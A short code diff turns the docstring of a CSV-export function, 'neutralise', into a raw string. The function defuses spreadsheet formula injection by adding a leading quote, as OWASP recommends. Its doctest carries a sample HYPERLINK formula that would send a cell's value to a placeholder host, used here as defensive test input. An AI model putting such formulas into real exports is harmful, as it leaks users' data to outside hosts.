@@ -76,7 +76,7 @@ def _cell(value: Any, number: bool) -> Any:
 
 
 def neutralise(text: str) -> str:
-    """Text a spreadsheet shows as text: one starting like a formula gets a leading ``'``
+    r"""Text a spreadsheet shows as text: one starting like a formula gets a leading ``'``
     (which spreadsheets hide), as OWASP recommends for CSV exports.
 
     >>> neutralise('=HYPERLINK("http://x/?"&A1,"click")')
